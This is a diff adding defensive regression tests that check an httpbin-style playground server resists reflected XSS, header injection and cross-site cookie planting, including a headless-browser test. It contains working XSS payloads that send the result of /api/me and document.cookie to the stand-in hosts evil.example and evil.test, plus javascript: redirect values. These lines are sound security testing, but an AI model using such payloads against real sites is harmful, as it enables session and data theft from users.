@@ -674,3 +674,298 @@ describe('client-chosen keys: thousands of them keep the playground bounded', ()
     for (const cookie of cookies) assert.equal((await get('/api/session', { headers: { cookie } })).status, 200);
   });
 });
+
+describe('reflected XSS: no page an attacker writes is served on the playground’s origin', () => {
+  let pg: Playground;
+  before(async () => {
+    pg = await startPlayground();
+  });
+  after(() => pg.close());
+
+  const SCRIPT =
+    "<script>fetch('/api/me',{credentials:'include'}).then(r=>r.text()).then(t=>fetch('https://evil.example/?'+encodeURIComponent(t)))</script>";
+  const API_POLICY = "default-src 'none'; frame-ancestors 'none'; sandbox";
+
+  /** The answer is not a document a browser would run: nosniff, the sandboxing policy, and no raw markup. */
+  const assertInert = (
+    answer: { headers: Record<string, string | string[] | undefined>; body: string },
+    what: string,
+  ) => {
+    assert.equal(answer.headers['x-content-type-options'], 'nosniff', what);
+    assert.equal(answer.headers['content-security-policy'], API_POLICY, what);
+    // (httpbin's Digest challenge is an empty text/html body: nothing to render, and sandboxed.)
+    if (answer.body !== '')
+      assert.doesNotMatch(String(answer.headers['content-type']), /html|xml|svg|javascript/i, what);
+    assert.doesNotMatch(answer.body, /<script|<svg|<img/i, what);
+  };
+
+  it('refuses adversary-2’s /response-headers?Content-Type=text/html&x=<script> with 400 problem+json, inert', async () => {
+    const query = new URLSearchParams({ 'Content-Type': 'text/html', x: SCRIPT });
+    const answer = await rawGet(pg.url, `/response-headers?${query}`, {});
+    assert.equal(answer.status, 400);
+    assert.equal(answer.headers['content-type'], 'application/problem+json');
+    assert.match(JSON.parse(answer.body).detail, /Content-Type/);
+    assertInert(answer, 'the repro');
+  });
+
+  // What /response-headers may not set: a type a browser runs or renders, cookies on the
+  // playground's origin, the headers that make an answer safe, and the message framing.
+  const refused: Array<[string, string]> = [
+    ['Content-Type', 'text/html'],
+    ['content-type', 'TEXT/HTML; charset=utf-8'],
+    ['Content-Type', 'application/json, text/html'],
+    ['Content-Type', 'image/svg+xml'],
+    ['Content-Type', 'application/xhtml+xml'],
+    ['Content-Type', 'text/xml'],
+    ['Content-Type', 'text/javascript'],
+    ['Content-Type', 'multipart/x-mixed-replace; boundary=x'],
+    ['Content-Type', ''],
+    ['Set-Cookie', 'gatehouse_session=planted; Path=/'],
+    ['set-cookie2', 'a=b'],
+    ['Content-Security-Policy', "script-src 'unsafe-inline'"],
+    ['Content-Security-Policy-Report-Only', "default-src 'none'"],
+    ['X-Content-Type-Options', 'sniff'],
+    ['X-Frame-Options', 'ALLOWALL'],
+    ['Access-Control-Allow-Origin', '*'],
+    ['access-control-allow-credentials', 'true'],
+    ['Cross-Origin-Resource-Policy', 'cross-origin'],
+    ['Clear-Site-Data', '"cookies"'],
+    ['Refresh', '0; url=javascript:alert(1)'],
+    ['Content-Length', '5'],
+    ['Transfer-Encoding', 'chunked'],
+    ['Content-Encoding', 'gzip'],
+  ];
+  for (const [name, value] of refused) {
+    it(`refuses /response-headers?${name}=${value} with 400 problem+json, without setting it`, async () => {
+      const query = new URLSearchParams([
+        [name, value],
+        ['x', SCRIPT],
+      ]);
+      const answer = await rawGet(pg.url, `/response-headers?${query}`, {});
+      assert.equal(answer.status, 400);
+      assert.equal(answer.headers['content-type'], 'application/problem+json');
+      assert.equal(answer.headers['set-cookie'], undefined);
+      assert.equal(answer.headers['access-control-allow-origin'], undefined);
+      assert.equal(answer.headers['clear-site-data'], undefined);
+      assert.equal(answer.headers['refresh'], undefined);
+      assert.match(JSON.parse(answer.body).detail, new RegExp(name, 'i'));
+      assertInert(answer, name);
+    });
+  }
+
+  it('still sets JSON and text types and any other header, as httpbin does, with the markup escaped', async () => {
+    for (const type of ['text/plain', 'text/plain; charset=utf-8', 'application/json', 'application/problem+json']) {
+      const query = new URLSearchParams([
+        ['Content-Type', type],
+        ['X-Custom', '<b>yes</b>'],
+      ]);
+      const answer = await rawGet(pg.url, `/response-headers?${query}`, {});
+      assert.equal(answer.status, 200, type);
+      assert.equal(answer.headers['content-type'], type, 'one Content-Type, the one asked for');
+      assert.equal(answer.headers['x-custom'], '<b>yes</b>');
+      assert.deepStrictEqual(JSON.parse(answer.body)['X-Custom'], '<b>yes</b>');
+      assert.equal(Number(JSON.parse(answer.body)['Content-Length']), Buffer.byteLength(answer.body));
+      assertInert(answer, type);
+    }
+  });
+
+  it('escapes < > & in every JSON answer that reflects the request (still the same JSON)', async () => {
+    const marked = '<script>&</script>';
+    const q = `x=${encodeURIComponent(marked)}`;
+    const answers = {
+      get: await rawGet(pg.url, `/get?${q}`, { 'x-echo': marked }),
+      anything: await rawGet(pg.url, `/anything/${encodeURIComponent(marked)}?${q}`, {}),
+      headers: await rawGet(pg.url, '/headers', { 'x-echo': marked }),
+      'response-headers': await rawGet(pg.url, `/response-headers?${q}`, {}),
+      'not found': await rawGet(pg.url, `/${encodeURIComponent(marked)}`, {}),
+      'user-agent': await rawGet(pg.url, '/user-agent', { 'user-agent': marked }),
+      bearer: await rawGet(pg.url, '/bearer', { authorization: `Bearer ${marked}` }),
+      orders: await rawGet(pg.url, `/orders/${encodeURIComponent(marked)}`, {}),
+    };
+    for (const [what, answer] of Object.entries(answers)) {
+      assert.doesNotMatch(answer.body, /[<>&]/, what);
+      assert.match(answer.body, /\\u003cscript\\u003e/, what);
+      assert.match(JSON.stringify(JSON.parse(answer.body)), /<script>/, what);
+      assert.equal(answer.headers['x-content-type-options'], 'nosniff', what);
+    }
+  });
+
+  it('puts nosniff and the sandboxing policy on every answer: errors, refusals, redirects, preflights, 421', async () => {
+    const paths = [
+      '/get',
+      '/status/418',
+      '/status/302',
+      '/redirect-to?url=javascript:alert(1)',
+      '/redirect-to?url=/get',
+      '/api/me',
+      '/tokens/valid',
+      '/tokens/<x>',
+      '/cookies/set?a=b',
+      '/digest-auth/auth/u/p',
+      '/unavailable?retry_after=1',
+      '/nope',
+    ];
+    for (const path of paths) assertInert(await rawGet(pg.url, path, {}), path);
+    assertInert(await rawGet(pg.url, '/get', { host: 'evil.example' }), 'a 421 for a rebinding Host');
+    const preflight = await fetch(`${pg.url}/api/me`, {
+      method: 'OPTIONS',
+      headers: { origin: 'http://localhost:3000', 'access-control-request-method': 'GET' },
+    });
+    assert.equal(preflight.headers.get('x-content-type-options'), 'nosniff');
+    assert.equal(preflight.headers.get('content-security-policy'), API_POLICY);
+    const token = await fetch(`${pg.url}/oauth/token`, { method: 'POST', body: 'grant_type=<x>' });
+    await token.arrayBuffer();
+    assert.equal(token.headers.get('x-content-type-options'), 'nosniff');
+    assert.equal(token.headers.get('content-security-policy'), API_POLICY);
+  });
+
+  it('answers a /cookies/set or /cookies/delete name that is no cookie name with 400, not 500', async () => {
+    for (const path of [
+      '/cookies/set?a%3Bb=c',
+      '/cookies/set?%3Cscript%3E=x',
+      '/cookies/delete?a%20b',
+      '/cookies/set/a%3Bb/c',
+    ]) {
+      const answer = await rawGet(pg.url, path, {});
+      assert.equal(answer.status, 400, path);
+      assert.equal(answer.headers['set-cookie'], undefined, path);
+      assertInert(answer, path);
+    }
+  });
+
+  it('lets no page on another site set or delete cookies through /cookies/set (cookies reach every port on the host)', async () => {
+    for (const path of [
+      '/cookies/set?app_session=planted',
+      '/cookies/set/app_session/planted',
+      '/cookies/delete?app_session',
+    ]) {
+      const crossSite = await rawGet(pg.url, path, { 'sec-fetch-site': 'cross-site' });
+      assert.equal(crossSite.status, 400, path);
+      assert.equal(crossSite.headers['set-cookie'], undefined, path);
+      assert.match(JSON.parse(crossSite.body).detail, /another site/, path);
+      // A program (no Sec-Fetch-Site) and the playground's own pages still set them, as httpbin.
+      for (const headers of [{}, { 'sec-fetch-site': 'same-origin' }, { 'sec-fetch-site': 'none' }]) {
+        const answer = await rawGet(pg.url, path, headers);
+        assert.equal(answer.status, 302, `${path} ${JSON.stringify(headers)}`);
+        assert.match(String(answer.headers['set-cookie']), /^app_session=/);
+      }
+    }
+  });
+
+  it('lets the index page render its style and nothing else: no script, no frame, no form, no base', async () => {
+    const index = await rawGet(pg.url, '/', {});
+    assert.equal(index.status, 200);
+    assert.equal(index.headers['x-content-type-options'], 'nosniff');
+    const policy = String(index.headers['content-security-policy']);
+    assert.match(policy, /^default-src 'none'; /);
+    assert.match(policy, /frame-ancestors 'none'/);
+    assert.match(policy, /base-uri 'none'/);
+    assert.match(policy, /form-action 'none'/);
+    assert.doesNotMatch(policy, /script-src|unsafe/);
+    // The page's one inline style is allowed by its hash, so the page still renders styled.
+    const style = /<style>(.*?)<\/style>/s.exec(index.body)![1]!;
+    const { createHash } = await import('node:crypto');
+    assert.match(
+      policy,
+      new RegExp(`style-src 'sha256-${createHash('sha256').update(style).digest('base64').replace(/[+/]/g, '\\$&')}'`),
+    );
+  });
+});
+
+/** The attacker's page: frames the crafted playground URLs, then sends the tab to one of them. */
+const XSS_PAGE = (targets: string[]) => `<!doctype html><html><body>
+${targets.map((url) => `<iframe src="${url.replace(/&/g, '&amp;').replace(/"/g, '&quot;')}"></iframe>`).join('\n')}
+<script>addEventListener('load', () => { window.framed = true; });</script>
+</body></html>`;
+
+describe('reflected XSS in a real browser: a page on another site cannot run script on the playground’s origin', {
+  skip: noBrowser ? `no ${CHROMIUM}: apt-get install chromium` : false,
+}, () => {
+  let pg: Playground;
+  let page: Server;
+  const beacons: string[] = [];
+  let targets: string[] = [];
+  before(async () => {
+    if (!existsSync(CHROMIUM)) throw new Error(`${CHROMIUM} is missing: .ci/run installs Debian's chromium package`);
+    pg = await startPlayground();
+    page = createServer((req, res) => {
+      if (req.url!.startsWith('/beacon')) beacons.push(req.url!);
+      res.writeHead(200, { 'content-type': 'text/html' });
+      res.end(req.url === '/frames' ? XSS_PAGE(targets) : '');
+    });
+    await new Promise<void>((resolve) => page.listen(0, '127.0.0.1', resolve));
+    const { port } = page.address() as AddressInfo;
+    // What the script would do on the playground's origin: mark the window, and call home.
+    const payload = `<script>window.pwned=location.origin;new Image().src='http://evil.test:${port}/beacon?'+encodeURIComponent(document.cookie+location.href)</script>`;
+    targets = [
+      `${pg.url}/response-headers?${new URLSearchParams({ 'Content-Type': 'text/html', x: payload })}`,
+      `${pg.url}/response-headers?${new URLSearchParams({ 'Content-Type': 'text/html; charset=utf-8', x: payload })}`,
+      `${pg.url}/response-headers?${new URLSearchParams({ 'Content-Type': 'text/plain', x: payload })}`,
+      `${pg.url}/get?${new URLSearchParams({ x: payload })}`,
+      `${pg.url}/anything/${encodeURIComponent(payload)}`,
+      `${pg.url}/${encodeURIComponent(payload)}`,
+    ];
+  });
+  after(async () => {
+    page?.close();
+    await pg?.close();
+  });
+
+  it('neither a frame nor a navigation of the crafted URLs runs the script (no marker, no beacon)', async () => {
+    const { chromium } = await import('playwright-core');
+    const browser = await chromium.launch({
+      executablePath: CHROMIUM,
+      args: [
+        '--headless',
+        '--no-sandbox',
+        '--disable-gpu',
+        '--no-first-run',
+        '--disable-background-networking',
+        '--disable-component-update',
+        '--disable-features=HttpsUpgrades',
+        '--host-resolver-rules=MAP evil.test 127.0.0.1',
+      ],
+    });
+    try {
+      const { port } = page.address() as AddressInfo;
+      const tab = await browser.newPage();
+      await tab.goto(`http://evil.test:${port}/frames`);
+      await tab.waitForFunction(() => (window as unknown as { framed?: boolean }).framed === true, undefined, {
+        timeout: 20_000,
+      });
+      for (const frame of tab.frames().slice(1)) {
+        const marker = await frame
+          .evaluate(() => (window as unknown as { pwned?: string }).pwned)
+          .catch(() => undefined);
+        assert.equal(marker, undefined, `a framed ${frame.url()} ran the script`);
+      }
+      // The page sends the whole tab to each crafted URL (as window.open or a link would).
+      for (const target of targets) {
+        await tab.goto(`http://evil.test:${port}/`);
+        await tab.evaluate((url) => {
+          location.href = url;
+        }, target);
+        await tab.waitForURL((url) => url.href.startsWith(pg.url), { timeout: 20_000 });
+        await tab.waitForLoadState('load');
+        const marker = await tab.evaluate(() => (window as unknown as { pwned?: string }).pwned);
+        assert.equal(marker, undefined, `navigating to ${target} ran the script on ${marker}`);
+      }
+      // Nor can the page plant a cookie on the playground's host (cookies ignore the port).
+      await tab.goto(`http://evil.test:${port}/`);
+      await tab.evaluate((url) => {
+        location.href = url;
+      }, `${pg.url}/cookies/set?app_session=planted`);
+      await tab.waitForURL((url) => url.href.startsWith(pg.url), { timeout: 20_000 });
+      await tab.waitForLoadState('load');
+      assert.deepStrictEqual(
+        (await tab.context().cookies(pg.url)).map((cookie) => cookie.name),
+        [],
+        'a cookie planted from another site',
+      );
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      assert.deepStrictEqual(beacons, [], 'the script called home from the playground’s origin');
+    } finally {
+      await browser.close();
+    }
+  });
+});
